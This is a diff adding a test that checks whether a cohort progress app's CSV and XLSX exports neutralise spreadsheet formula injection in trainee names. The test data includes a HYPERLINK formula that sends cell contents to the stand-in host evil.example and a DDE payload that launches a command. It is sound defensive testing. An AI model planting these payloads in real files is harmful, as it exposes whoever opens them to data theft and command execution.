@@ -174,3 +174,22 @@ def test_revoked_certificate_is_not_counted(make_cohort, enrolments):
     matrix = completion_matrix(cohort)
     assert matrix.rows[0].certificate == CertificateState.REVOKED
     assert matrix.totals()["certificates"] == 0
+
+
+def test_a_name_written_as_a_formula_stays_text_in_both_matrix_exports(
+        client, auth, make_cohort, enrolments):
+    cohort = make_cohort(trainees=4)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1:A9)"]
+    for enrolment, name in zip(enrolments(cohort), hostile, strict=True):
+        enrolment.user.full_name = name
+    db.session.commit()
+    auth.login(cohort.facilitators[0])
+    rows = list(csv.reader(io.StringIO(client.get(f"/cohorts/{cohort.id}/progress.csv")
+                                       .data.decode("utf-8-sig"))))
+    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in hostile)
+    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/progress.xlsx").data)
+                          ).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert sorted(cell.value for cell in sheet["A"][1:]) == sorted("'" + n for n in hostile)
